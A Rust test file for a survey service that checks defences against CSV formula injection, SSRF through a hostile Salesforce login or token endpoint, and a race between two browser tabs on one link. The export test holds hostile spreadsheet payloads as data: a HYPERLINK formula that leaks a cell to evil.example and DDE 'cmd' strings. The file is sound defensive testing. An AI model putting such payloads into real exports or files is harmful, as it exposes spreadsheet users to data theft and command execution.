//! What an attacker or an unlucky network could make Sonde do to a linked org and to the
//! people who read its exports: links whose data steers Salesforce writes, a hostile "org"
//! that points Sonde at an internal service, replies lost after a create, formula cells in
//! CSV exports, and two tabs racing for one personal link.

use crate::harness::{backends, TestApp};
use engine::Role;
use serde_json::{json, Value};

/// Every cell of a CSV export, rows of columns.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test]
async fn exported_answers_never_become_spreadsheet_formulas() {
    for backend in backends() {
        let app = TestApp::spawn(backend).await;
        let (admin, token) = app.org_user(Role::Admin).await;
        let id = app.sample_survey(&token).await;
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        for text in hostile {
            let r = app
                .post(&token, &format!("/api/v1/surveys/{id}/responses"))
                .json(&json!({
                    "answers": {"QID9": text},
                    "embeddedData": {"CaseId": text}
                }))
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
        }
        let api = app
            .get(
                &token,
                &format!("/api/v1/surveys/{id}/responses?format=csv"),
            )
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        // The admin UI's export is the same document.
        let r = app
            .client
            .post(app.url("/login"))
            .form(&[
                ("email", admin.email.as_str()),
                ("password", "correct horse battery"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303);
        let ui = app
            .client
            .get(app.url(&format!("/surveys/{id}/export.csv")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        for (name, text) in [("API", &api), ("UI", &ui)] {
            let rows = csv_rows(text);
            assert_eq!(rows.len(), 2 + hostile.len(), "{name}: {text}");
            let comments = rows[0].iter().position(|h| h == "Comments").unwrap();
            let case = rows[0].iter().position(|h| h == "CaseId").unwrap();
            let mut seen: Vec<&str> = Vec::new();
            for row in &rows[2..] {
                for cell in [&row[comments], &row[case]] {
                    assert!(
                        cell.starts_with('\''),
                        "{name} {backend:?}: {cell:?} would run as a formula"
                    );
                    seen.push(&cell[1..]);
                }
            }
            for h in hostile {
                assert!(seen.contains(&h), "{name}: {h:?} kept after the quote");
            }
        }
    }
}

#[tokio::test]
async fn two_tabs_opening_a_fresh_personal_link_share_one_response() {
    for backend in backends() {
        let app = TestApp::spawn(backend).await;
        let (admin, token) = app.org_user(Role::Editor).await;
        let id = app.sample_survey(&token).await;
        for round in 0..5 {
            let (contact, _) = app
                .sonde
                .save_contact(
                    &admin,
                    &json!({"email": format!("tab{round}@example.com")}),
                    None,
                )
                .await
                .unwrap();
            let link: Value = app
                .post(&token, &format!("/api/v1/surveys/{id}/links"))
                .json(&json!({"contactId": contact.id}))
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            let url = link["url"].as_str().unwrap().to_string();
            // Two tabs: two clients without a shared cookie, at the same moment.
            let (a, b) = (reqwest::Client::new(), reqwest::Client::new());
            let (ra, rb) = tokio::join!(a.get(&url).send(), b.get(&url).send());
            let (ra, rb) = (ra.unwrap(), rb.unwrap());
            assert_eq!(
                (ra.status().as_u16(), rb.status().as_u16()),
                (200, 200),
                "{backend:?}"
            );
            let (pa, pb) = (ra.text().await.unwrap(), rb.text().await.unwrap());
            for page in [&pa, &pb] {
                assert!(
                    !page.contains("already completed"),
                    "{backend:?} round {round}: a fresh link said completed:\n{page}"
                );
            }
            let response_of = |page: &str| {
                let marker = "name=\"_response\" value=\"";
                let at = page.find(marker).expect("a survey page") + marker.len();
                page[at..].split('"').next().unwrap().to_string()
            };
            assert_eq!(
                response_of(&pa),
                response_of(&pb),
                "{backend:?}: one response"
            );
        }
        let (_, responses, _) = app
            .sonde
            .responses(&admin, &id, None, None, 100)
            .await
            .unwrap();
        assert_eq!(responses.len(), 5, "{backend:?}: one response per link");
    }
}

/// A listener that answers 200 to anything and records every request it gets (method, path
/// and Authorization header): an "internal service" a hostile org would like Sonde to call.
struct Recorder {
    url: String,
    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
    _server: tokio::task::JoinHandle<()>,
}

impl Recorder {
    async fn start() -> Self {
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let log = seen.clone();
        let app = axum::Router::new().fallback(move |req: axum::extract::Request| {
            let log = log.clone();
            async move {
                let auth = req
                    .headers()
                    .get("authorization")
                    .and_then(|v| v.to_str().ok())
                    .unwrap_or("")
                    .to_string();
                log.lock()
                    .unwrap()
                    .push(format!("{} {} [{auth}]", req.method(), req.uri()));
                "ok"
            }
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let server = tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        Recorder {
            url,
            seen,
            _server: server,
        }
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// A hostile "org": its token endpoint answers the code `to-recorder` and every refresh with
/// an `instance_url` on the recorder; the code `honest` gets its own URL. Its REST API says
/// every session expired, so any call makes the client refresh.
async fn hostile_org(recorder: &str) -> (String, tokio::task::JoinHandle<()>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let own = format!("http://{}", listener.local_addr().unwrap());
    let (own_url, recorder) = (own.clone(), recorder.to_string());
    let token = move |axum::Form(form): axum::Form<std::collections::HashMap<String, String>>| {
        let instance = match (form.get("grant_type").map(String::as_str), form.get("code")) {
            (Some("authorization_code"), Some(code)) if code == "honest" => own_url.clone(),
            _ => recorder.clone(),
        };
        async move {
            axum::Json(json!({
                "access_token": "00Dhostile!bearer-token",
                "refresh_token": "5Aep-refresh",
                "instance_url": instance,
                "id": "https://login.salesforce.com/id/00D000000000001AAA/005000000000001AAA",
                "issued_at": "1700000000000",
                "token_type": "Bearer",
                "signature": "x"
            }))
        }
    };
    let expired = || async {
        (
            axum::http::StatusCode::UNAUTHORIZED,
            axum::Json(
                json!([{"message": "Session expired or invalid", "errorCode": "INVALID_SESSION_ID"}]),
            ),
        )
    };
    let app = axum::Router::new()
        .route("/services/oauth2/token", axum::routing::post(token))
        .fallback(expired);
    let server = tokio::spawn(async move {
        axum::serve(listener, app).await.unwrap();
    });
    (own, server)
}

fn linking_settings(allowed: &str) -> engine::connections::SalesforceSettings {
    let mut s = engine::connections::SalesforceSettings::defaults();
    s.client_id = Some("3MVG9test".into());
    s.client_secret = Some(salesforce::Secret::new("client-secret"));
    s.allowed_hosts = salesforce::AllowedHosts::parse(allowed).unwrap();
    s
}

async fn start_link(app: &TestApp, token: &str, login_url: &str) -> (u16, Value) {
    let r = app
        .post(token, "/api/v1/salesforce/connections")
        .json(&json!({"environment": "custom", "loginUrl": login_url}))
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.json().await.unwrap())
}

#[tokio::test]
async fn a_login_url_on_loopback_is_refused_unless_the_operator_allows_it() {
    let app = TestApp::spawn(crate::harness::Backend::Sqlite).await;
    app.sonde
        .set_secret_box(engine::secrets::SecretBox::from_key(&[3u8; 32]));
    let (_, token) = app.org_user(Role::Editor).await;
    let recorder = Recorder::start().await;
    let host = recorder.url.trim_start_matches("http://").to_string();
    app.sonde.configure_salesforce(linking_settings(""));
    for url in [
        recorder.url.clone(),
        format!("https://{host}"),
        "http://localhost:9".to_string(),
        "https://metadata.internal.example".to_string(),
        "https://login.salesforce.com.evil.example".to_string(),
    ] {
        let (status, body) = start_link(&app, &token, &url).await;
        assert_eq!(status, 400, "{url}: {body}");
        let text = body.to_string();
        assert!(
            text.contains("loginUrl") && text.contains("not a Salesforce host"),
            "{url}: {text}"
        );
        assert!(text.contains("SONDE_SALESFORCE_ALLOWED_HOSTS"), "{text}");
    }
    let (status, body) = start_link(&app, &token, "https://acme.my.salesforce.com").await;
    assert_eq!(status, 201, "a My Domain is fine: {body}");
    // Allowed explicitly, the same loopback URL starts linking.
    app.sonde.configure_salesforce(linking_settings(&host));
    let (status, body) = start_link(&app, &token, &recorder.url).await;
    assert_eq!(status, 201, "{body}");
    assert!(recorder.requests().is_empty(), "{:?}", recorder.requests());
}

#[tokio::test]
async fn a_token_response_naming_another_host_gets_no_bearer_token() {
    let app = TestApp::spawn(crate::harness::Backend::Sqlite).await;
    app.sonde
        .set_secret_box(engine::secrets::SecretBox::from_key(&[3u8; 32]));
    let (actor, token) = app.org_user(Role::Editor).await;
    let recorder = Recorder::start().await;
    let (org_url, _org) = hostile_org(&recorder.url).await;
    // The operator allowed the "org" itself (say, a proxy), never the internal service.
    app.sonde
        .configure_salesforce(linking_settings(org_url.trim_start_matches("http://")));
    let callback = |authorize: &str, code: &str| {
        let state = url::Url::parse(authorize)
            .unwrap()
            .query_pairs()
            .find(|(k, _)| k == "state")
            .unwrap()
            .1
            .into_owned();
        app.url(&format!(
            "/oauth/salesforce/callback?state={state}&code={code}"
        ))
    };

    // The code exchange names the recorder as the instance: nothing is linked.
    let (status, body) = start_link(&app, &token, &org_url).await;
    assert_eq!(status, 201, "{body}");
    let page = reqwest::get(callback(
        body["authorizeUrl"].as_str().unwrap(),
        "to-recorder",
    ))
    .await
    .unwrap();
    assert_eq!(page.status(), 400);
    let text = page.text().await.unwrap();
    assert!(
        text.contains("nothing was linked") && text.contains("not a Salesforce host"),
        "{text}"
    );
    let linked = app.sonde.salesforce_connections(&actor).await.unwrap();
    assert!(linked.iter().all(|c| c.status != "active"), "{linked:?}");

    // An honest exchange links; the refresh that a dead session triggers names the recorder
    // and is refused, so the call fails instead of following it.
    let (_, body) = start_link(&app, &token, &org_url).await;
    let page = reqwest::get(callback(body["authorizeUrl"].as_str().unwrap(), "honest"))
        .await
        .unwrap();
    assert_eq!(page.status(), 200, "{}", page.text().await.unwrap());
    let linked = app.sonde.salesforce_connections(&actor).await.unwrap();
    let conn = linked.iter().find(|c| c.status == "active").unwrap();
    let live = app.sonde.live_connection(&conn.id).await.unwrap();
    let e = live.describe("Account").await.unwrap_err();
    assert!(matches!(e, salesforce::Error::UntrustedHost(_)), "{e:?}");
    assert_eq!(
        live.instance_url(),
        org_url,
        "the instance stays where it was"
    );

    assert!(
        recorder.requests().is_empty(),
        "the internal service was called: {:?}",
        recorder.requests()
    );
}
